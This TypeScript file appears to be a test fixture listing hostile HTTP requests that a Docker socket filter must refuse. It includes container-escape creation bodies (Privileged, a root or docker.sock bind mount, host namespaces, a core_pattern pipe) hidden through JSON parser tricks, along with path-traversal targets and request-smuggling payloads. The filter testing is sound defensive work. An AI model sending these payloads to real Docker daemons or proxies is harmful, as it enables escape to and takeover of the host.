/** A request that must not get through the socket filter, byte for byte as it goes over the wire. */
export interface Attack {
  readonly name: string;
  readonly method: string;
  readonly target: string;
  /** beside Host; none is added */
  readonly headers: readonly (readonly [string, string])[];
  /** as it follows the headers, chunk framing included */
  readonly body: string;
  /** statuses that refuse it */
  readonly refusedWith: readonly number[];
}

/** What the attacks are aimed at. */
export interface AttackScene {
  /** an image that is allowed */
  readonly image: string;
  /** the network that is allowed */
  readonly network: string;
  /** id or name of a container that is there and is another's */
  readonly foreign: string;
  /** id or name of a container of ours */
  readonly own: string;
}

const REFUSED = [400, 403, 404, 413] as const;
const JSON_TYPE = ['Content-Type', 'application/json'] as const;

const bare = (method: string, target: string, name = `${method} ${target}`): Attack => ({
  name,
  method,
  target,
  headers: method === 'GET' || method === 'HEAD' ? [] : [['Content-Length', '0']],
  body: '',
  refusedWith: REFUSED,
});

const create = (name: string, body: string, headers: Attack['headers'] = [JSON_TYPE]): Attack => ({
  name: `create: ${name}`,
  method: 'POST',
  target: '/v1.41/containers/create',
  headers: [...headers, ['Content-Length', String(Buffer.byteLength(body))]],
  body,
  refusedWith: REFUSED,
});

const chunked = (name: string, body: string, size: number): Attack => {
  const chunks = body.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
  return {
    ...create(name, ''),
    headers: [JSON_TYPE, ['Transfer-Encoding', 'chunked']],
    body: `${chunks.map((chunk) => `${Buffer.byteLength(chunk).toString(16)}\r\n${chunk}\r\n`).join('')}0\r\n\r\n`,
  };
};

/** Settings of the host that would lead out of a container, each in an otherwise proper request. */
const HOST_SETTINGS: readonly (readonly [string, unknown])[] = [
  ['Privileged', true],
  ['Binds', ['/:/host']],
  ['Binds', ['/var/run/docker.sock:/var/run/docker.sock']],
  ['Mounts', [{ Type: 'bind', Source: '/', Target: '/host' }]],
  ['Mounts', [{ Type: 'volume', Source: 'database', Target: '/x' }]],
  ['Tmpfs', { '/x': 'exec' }],
  ['Devices', [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }]],
  ['DeviceCgroupRules', ['a *:* rwm']],
  ['DeviceRequests', [{ Driver: '', Count: -1, Capabilities: [['gpu']] }]],
  ['VolumesFrom', ['database']],
  ['VolumeDriver', 'local'],
  ['PidMode', 'host'],
  ['PidMode', 'container:database'],
  ['IpcMode', 'host'],
  ['UTSMode', 'host'],
  ['UsernsMode', 'host'],
  ['CgroupnsMode', 'host'],
  ['CgroupParent', '/'],
  ['NetworkMode', 'host'],
  ['NetworkMode', 'bridge'],
  ['NetworkMode', 'none'],
  ['NetworkMode', ''],
  ['NetworkMode', 'container:database'],
  ['CapAdd', ['SYS_ADMIN']],
  ['CapDrop', []],
  ['SecurityOpt', ['seccomp=unconfined']],
  ['SecurityOpt', ['apparmor=unconfined', 'label=disable']],
  ['MaskedPaths', []],
  ['ReadonlyPaths', []],
  ['ReadonlyRootfs', false],
  ['Runtime', 'nvidia'],
  ['Isolation', 'process'],
  ['Sysctls', { 'kernel.core_pattern': '|/x' }],
  ['Ulimits', [{ Name: 'nofile', Soft: 1, Hard: 1 }]],
  ['ExtraHosts', ['database:10.0.0.1']],
  ['Links', ['database:database']],
  ['Dns', ['10.0.0.1']],
  ['GroupAdd', ['docker']],
  ['PortBindings', { '80/tcp': [{ HostPort: '80' }] }],
  ['PublishAllPorts', true],
  ['RestartPolicy', { Name: 'always' }],
  ['AutoRemove', true],
  ['OomKillDisable', true],
  ['OomScoreAdj', -1000],
  ['StorageOpt', { size: '1t' }],
  ['Memory', 1e15],
  ['Memory', -1],
  ['MemorySwap', -1],
  ['MemoryReservation', 1],
  ['ShmSize', 1e12],
  ['PidsLimit', -1],
  ['CpuShares', 262144],
  ['NanoCpus', 1e12],
  ['CpusetCpus', '0'],
  ['LogConfig', { Type: 'syslog', Config: { 'syslog-address': 'tcp://10.0.0.1' } }],
  ['LogConfig', { Type: 'json-file', Config: { 'max-size': '-1' } }],
  ['ContainerIDFile', '/x'],
  ['Init', true],
];

const SETTINGS: readonly (readonly [string, unknown])[] = [
  ['Entrypoint', ['/bin/sh']],
  ['User', 'root'],
  ['User', '0'],
  ['User', '0:0'],
  ['WorkingDir', '/etc'],
  ['Hostname', 'database'],
  ['Domainname', 'x'],
  ['MacAddress', '02:42:ac:11:00:02'],
  ['ExposedPorts', { '80/tcp': {} }],
  ['Volumes', { '/x': {} }],
  ['Healthcheck', { Test: ['CMD', '/x'] }],
  ['OnBuild', ['RUN x']],
  ['Shell', ['/bin/sh']],
  ['StopSignal', 'SIGKILL'],
  ['StopTimeout', 1],
  ['Runtime', 'x'],
  ['Tty', true],
  ['OpenStdin', true],
  ['AttachStdin', true],
  ['NetworkDisabled', true],
  ['NetworkingConfig', { EndpointsConfig: { host: {} } }],
  ['NetworkingConfig', { EndpointsConfig: { other: { Aliases: ['database'] } } }],
  ['Labels', { 'forecast.owner': 'another' }],
  ['Env', ['NAME']],
  ['Env', { NAME: 'value' }],
  ['Cmd', 'sh -c x'],
];

/** Creating what must not be created, in every dress. */
const creations = ({ image, network }: AttackScene): readonly Attack[] => {
  const host = { NetworkMode: network };
  const proper = { Image: image, Cmd: ['true'], HostConfig: host };
  const text = JSON.stringify(proper);
  const withHost = (members: string) => text.replace('"HostConfig":{', `"HostConfig":{${members},`);
  const withMembers = (members: string) => `{${members},${text.slice(1)}`;
  const privileged = withHost('"Privileged":true');
  const evilHost = JSON.stringify({ ...host, Privileged: true });
  const repository = image.split(/[:@]/)[0] ?? '';
  return [
    ...HOST_SETTINGS.map(([key, value]) =>
      create(`HostConfig.${key} ${JSON.stringify(value)}`, JSON.stringify({ ...proper, HostConfig: { ...host, [key]: value } })),
    ),
    ...SETTINGS.map(([key, value]) => create(`${key} ${JSON.stringify(value)}`, JSON.stringify({ ...proper, [key]: value }))),
    ...[
      'debian',
      `${repository}:other`,
      repository,
      `${repository}@sha256:${'0'.repeat(64)}`,
      `sha256:${'0'.repeat(64)}`,
      '0'.repeat(12),
    ].map((other) => create(`image ${other}`, JSON.stringify({ ...proper, Image: other }))),
    ...[`docker.io/library/${image}`, ` ${image}`, `${image}\0`, image.toUpperCase(), ''].map((other) =>
      create(`image ${JSON.stringify(other)}`, JSON.stringify({ ...proper, Image: other })),
    ),
    create('an escaped key', withHost('"Privi\\u006ceged":true')),
    create('an escaped key and white space', withHost('"\\u0050rivileged"\n\t :\r\n true')),
    create('padding of 60 KiB before the setting', withHost(`${' '.repeat(60_000)}"Privileged":true`)),
    create('padding of a megabyte before the setting', withHost(`${' '.repeat(2 ** 20)}"Privileged":true`)),
    create('a megabyte of padding about a proper body', `${text}${' '.repeat(2 ** 20)}`),
    chunked('in chunks of one byte', privileged, 1),
    chunked('in chunks that part the key', privileged, 7),
    chunked('a megabyte in chunks', `${text}${' '.repeat(2 ** 20)}`, 60_000),
    ...['PRIVILEGED', 'privileged', 'pRIVILEGED', 'Privileged ', 'Privileged\u0000', 'Pr\u0131vileged', 'PidMode', 'pidmode'].map((key) =>
      create(`the key ${JSON.stringify(key)}`, withHost(`${JSON.stringify(key)}:true`)),
    ),
    ...['hostconfig', 'HOSTCONFIG', 'ho\u017ftConfig', 'HostConfig\\u0000'].map((key) =>
      create(`the key ${key}`, withMembers(`"${key}":${evilHost}`)),
    ),
    create('the same key twice, the harmless one first', withHost('"Privileged":false,"Privileged":true')),
    create('the same key twice, the harmless one last', withHost('"Privileged":true,"Privileged":false')),
    create('two HostConfigs, the harmless one last', withMembers(`"HostConfig":${evilHost}`)),
    create('two HostConfigs, the harmless one first', `${text.slice(0, -1)},"HostConfig":${evilHost}}`),
    create('two images', withMembers('"Image":"debian"')),
    create('the same key twice, once escaped', withMembers('"Im\\u0061ge":"debian"')),
    create('__proto__', withHost('"__proto__":{"Privileged":true}')),
    create('two documents', `${text}${privileged}`),
    create('a line for each of two documents', `${text}\n${privileged}`),
    create('a comment', `/*${text}*/${privileged}`),
    create('a byte order mark', `\uFEFF${privileged}`),
    create('nesting to break a reader', withHost(`"Binds":${'['.repeat(20_000)}${']'.repeat(20_000)}`)),
    create('an array', `[${text}]`),
    create('nothing', ''),
    create('no HostConfig', JSON.stringify({ Image: image })),
    create('no type', text, []),
    create('text', text, [['Content-Type', 'text/plain']]),
    create('another charset', text, [['Content-Type', 'application/json; charset=utf-7']]),
    create('an encoding', text, [JSON_TYPE, ['Content-Encoding', 'gzip']]),
    ...['platform=linux/arm64', 'name=a&name=b', 'name=../x', 'name=a%2fb', 'name=', 'Name=a', 'fromSrc=x'].map((query) => ({
      ...create(`query ${query}`, text),
      target: `/v1.41/containers/create?${query}`,
    })),
    { ...create('in an old version of the API', privileged), target: '/v1.23/containers/create' },
  ];
};

/** What nobody needs to ask of an engine who only runs tasks. */
const otherCalls = ({ foreign, own, image }: AttackScene): readonly Attack[] => [
  ...['json', 'json?all=1', `json?filters={}`].map((rest) => bare('GET', `/v1.41/containers/${rest}`)),
  ...['/info', '/v1.41/info', '/events', '/system/df', '/volumes', '/networks', '/swarm', '/nodes', '/services', '/tasks'].map((target) =>
    bare('GET', target),
  ),
  ...['/secrets', '/configs', '/plugins', '/distribution/x/json', '/images/search?term=x', `/images/${image.split(':')[0]}/json`].map(
    (target) => bare('GET', target),
  ),
  ...['/images/get?names=x', '/session', '/grpc', '/auth', '/exec/0/json', '/metrics', '/debug/pprof/', '/'].map((target) =>
    bare('GET', target),
  ),
  ...['/build?remote=http://x/', '/images/create?fromImage=debian', '/images/load', '/images/prune', '/commit?container=x'].map((target) =>
    bare('POST', target),
  ),
  ...['/volumes/create', '/networks/create', '/networks/host/connect', '/containers/prune', '/swarm/init', '/services/create'].map(
    (target) => bare('POST', target),
  ),
  ...['/secrets/create', '/configs/create', '/plugins/pull?remote=x', '/auth', '/session', '/grpc', '/build/prune', '/exec/0/start'].map(
    (target) => bare('POST', target),
  ),
  ...['/images/x', '/volumes/x', '/networks/x', '/plugins/x', '/exec/x'].map((target) => bare('DELETE', target)),
  ...['exec', 'update', 'rename?name=x', 'resize?h=1&w=1', 'restart', 'pause', 'unpause', 'attach/ws', 'checkpoints'].map((rest) =>
    bare('POST', `/v1.41/containers/${own}/${rest}`),
  ),
  ...[
    'archive?path=/',
    'export',
    'top',
    'stats',
    'changes',
    'attach/ws?stream=1',
    'logs?follow=1&follow=1',
    'logs?tail=x',
    'json?size=1',
  ].map((rest) => bare('GET', `/v1.41/containers/${own}/${rest}`)),
  ...['start?detachKeys=x', 'attach?stdin=1&stream=1', 'attach', 'kill?signal=x', 'stop?t=-1', 'wait?condition=x'].map((rest) =>
    bare('POST', `/v1.41/containers/${own}/${rest}`),
  ),
  bare('PUT', `/v1.41/containers/${own}/archive?path=/`),
  bare('HEAD', `/v1.41/containers/${own}/archive?path=/`),
  bare('DELETE', `/v1.41/containers/${own}?link=1`),
  ...['json', 'logs?stdout=1', 'archive?path=/', 'export'].map((rest) => bare('GET', `/v1.41/containers/${foreign}/${rest}`)),
  ...['start', 'wait', 'stop', 'kill', 'exec', 'restart'].map((rest) => bare('POST', `/containers/${foreign}/${rest}`)),
  bare('DELETE', `/v1.41/containers/${foreign}?force=1`),
  { ...bare('POST', `/v1.41/containers/${foreign}/attach?stream=1&stdout=1`), headers: [...UPGRADE, ['Content-Length', '0']] },
  {
    ...bare('POST', `/v1.41/containers/${own}/exec`, 'exec that asks for another protocol'),
    headers: [...UPGRADE, ['Content-Length', '0']],
  },
  {
    ...bare('POST', '/session', 'a session of the builder'),
    headers: [
      ['Connection', 'Upgrade'],
      ['Upgrade', 'h2c'],
      ['Content-Length', '0'],
    ],
  },
  { ...create('exec in another container', '{"Cmd":["sh"],"Privileged":true}'), target: `/containers/${foreign}/exec` },
  { ...create('start with settings of old', '{"Privileged":true}'), target: `/v1.41/containers/${own}/start` },
  { ...create('start with settings of old in an old version', '{"Privileged":true}'), target: `/v1.20/containers/${own}/start` },
];

const UPGRADE = [
  ['Connection', 'Upgrade'],
  ['Upgrade', 'tcp'],
] as const;

/** Targets that two readers would read differently, and framing that hides a second request. */
const disguises = ({ own, foreign }: AttackScene): readonly Attack[] => {
  const hidden = 'POST /containers/prune HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n';
  const smuggled = (name: string, headers: Attack['headers'], body: string): Attack => ({
    ...bare('POST', `/v1.41/containers/${own}/kill`, `smuggling: ${name}`),
    headers,
    body,
  });
  return [
    ...[
      '//_ping',
      '/./_ping',
      '/../_ping',
      '/v1.41//_ping',
      '/v1.41/../containers/json',
      '/v1.41/containers/../info',
      '/_ping/../info',
    ].map((target) => bare('GET', target)),
    ...[
      '/%5fping',
      '/%2e%2e/info',
      '/containers%2fjson',
      `/containers/${foreign}%2fjson`,
      '/_ping%00',
      '/_ping;/info',
      '/_ping\\..\\info',
    ].map((target) => bare('GET', target)),
    ...[`/containers/${own}/../${foreign}/json`, `/containers/${own}%2f..%2f${foreign}/json`, `/containers/${own}/json/`, '/_ping?x=1'].map(
      (target) => bare('GET', target),
    ),
    ...['/V1.41/_ping', '/v1.41/v1.41/_ping', '/v1.4/_ping', '/v2.0/_ping', '/v1.041/_ping', '/v9999999/_ping', '/_PING', '/_ping/'].map(
      (target) => bare('GET', target),
    ),
    ...['http://docker/info', 'http://docker/_ping', 'https://docker/containers/json', '*', 'info', '?/_ping', '#/_ping'].map((target) =>
      bare('GET', target),
    ),
    bare('CONNECT', 'docker:2375'),
    bare('OPTIONS', '*'),
    bare('get', '/_ping'),
    bare('TRACE', '/_ping'),
    {
      ...bare('GET', '/containers/json'),
      headers: [
        ['X-HTTP-Method-Override', 'GET'],
        ['X-Original-URL', '/_ping'],
        ['X-Rewrite-URL', '/_ping'],
      ],
    },
    { ...bare('GET', '/_ping', 'GET with a body'), headers: [['Content-Length', String(hidden.length)]], body: hidden },
    { ...bare('GET', '/_ping', 'GET with chunks'), headers: [['Transfer-Encoding', 'chunked']], body: '0\r\n\r\n' },
    smuggled(
      'length and chunks',
      [
        ['Content-Length', '4'],
        ['Transfer-Encoding', 'chunked'],
      ],
      `0\r\n\r\n${hidden}`,
    ),
    smuggled(
      'chunks and length',
      [
        ['Transfer-Encoding', 'chunked'],
        ['Content-Length', '0'],
      ],
      `0\r\n\r\n${hidden}`,
    ),
    smuggled(
      'two lengths',
      [
        ['Content-Length', '0'],
        ['Content-Length', String(hidden.length)],
      ],
      hidden,
    ),
    smuggled('two lengths in one', [['Content-Length', `0, ${hidden.length}`]], hidden),
    smuggled('a length with a sign', [['Content-Length', '+0']], hidden),
    smuggled('an odd coding', [['Transfer-Encoding', 'xchunked']], `0\r\n\r\n${hidden}`),
    smuggled('a coding after chunks', [['Transfer-Encoding', 'chunked, identity']], `0\r\n\r\n${hidden}`),
    smuggled('a space before the colon', [['Transfer-Encoding ', 'chunked']], `0\r\n\r\n${hidden}`),
    smuggled(
      'a tab before the coding',
      [
        ['Transfer-Encoding', '\tchunked'],
        ['Content-Length', '0'],
      ],
      `0\r\n\r\n${hidden}`,
    ),
    smuggled(
      'a folded header',
      [
        ['Transfer-Encoding', '\r\n chunked'],
        ['Content-Length', '0'],
      ],
      `0\r\n\r\n${hidden}`,
    ),
    smuggled(
      'a header of 64 KiB',
      [
        ['X-Padding', 'x'.repeat(65_536)],
        ['Content-Length', '0'],
      ],
      '',
    ),
  ];
};

/** Every attack on the filter, to be sent one by one; each must be refused, and none may reach the engine with effect. */
export const socketFilterAttacks = (scene: AttackScene): readonly Attack[] => [
  ...creations(scene),
  ...otherCalls(scene),
  ...disguises(scene),
];
